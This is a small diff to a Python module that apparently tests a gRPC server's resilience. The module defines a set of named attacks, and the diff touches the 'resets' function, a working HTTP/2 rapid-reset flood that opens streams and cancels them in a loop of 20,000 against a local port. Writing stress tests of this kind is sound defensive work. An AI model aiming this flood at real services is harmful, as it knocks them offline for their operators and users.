@@ -8,7 +8,7 @@ import gzip
 import io
 import json
 import sys
-from collections.abc import Awaitable, Callable, Mapping
+from collections.abc import Awaitable, Callable, Coroutine, Mapping
 from contextlib import suppress
 from dataclasses import dataclass
 from typing import Any
@@ -113,9 +113,11 @@ async def resets(target: Target) -> None:
     block = b"".join(b"\0" + _text(name) + _text(value) for name, value in fields)
     while True:
         with suppress(OSError):
-            reader, writer = await asyncio.open_connection("127.0.0.1", target.grpc_port)
+            _reader, writer = await asyncio.open_connection("127.0.0.1", target.grpc_port)
             writer.write(PREFACE + _frame(SETTINGS, 0, 0, b"") + _frame(SETTINGS, 1, 0, b""))
             for number in range(20_000):
+                if writer.is_closing():
+                    break
                 stream = 2 * number + 1
                 cancel = (8).to_bytes(4, "big")
                 writer.write(_frame(HEADERS, END_HEADERS, stream, block) + _frame(RESET, 0, stream, cancel))
@@ -134,7 +136,7 @@ def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
     return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
 
 
-ATTACKS: Mapping[str, Callable[[Target], Awaitable[None]]] = {
+ATTACKS: Mapping[str, Callable[[Target], Coroutine[Any, Any, None]]] = {
     attack.__name__: attack
     for attack in (unknown_fields, compressed_yaml, resets, wrong_tokens, large_json, yaml, large_messages, calls)
 }
